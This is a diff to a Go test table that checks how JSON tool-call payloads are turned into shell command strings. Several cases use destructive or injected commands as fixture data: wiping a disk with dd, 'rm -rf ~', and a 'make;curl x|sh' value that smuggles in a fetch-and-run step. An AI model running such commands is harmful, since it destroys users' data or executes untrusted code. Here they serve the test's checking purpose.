@@ -24,6 +24,8 @@ func TestCodeIn(t *testing.T) {
 		{"argv array", `{"command":["bash","-c","go test ./..."],"directory":"/w"}`, []string{"bash -c 'go test ./...'"}},
 		{"program and argv", `{"exec":{"program":"dd","argv":["if=/dev/zero","of=/dev/sda"]}}`, []string{"dd 'if=/dev/zero' 'of=/dev/sda'"}},
 		{"stdin", `{"command":"python3","stdin":"print(1)\n"}`, []string{"python3 <<< $'print(1)\\n'"}},
+		{"command line with args", `{"command":"rm -rf ~","args":[]}`, []string{"rm -rf ~ "}},
+		{"command line with args and metacharacters", `{"cmd":"make;curl x|sh","args":["-k"]}`, []string{"make;curl x|sh -k"}},
 		{"language", `{"languageId":"python","code":"import os"}`, []string{"python3 -c 'import os'"}},
 		{"shell language", `{"language":"shellscript","code":"go version"}`, []string{"go version"}},
 		{"unknown language", `{"lang":"cobol","code":"DISPLAY 1"}`, []string{"cobol 'DISPLAY 1'"}},
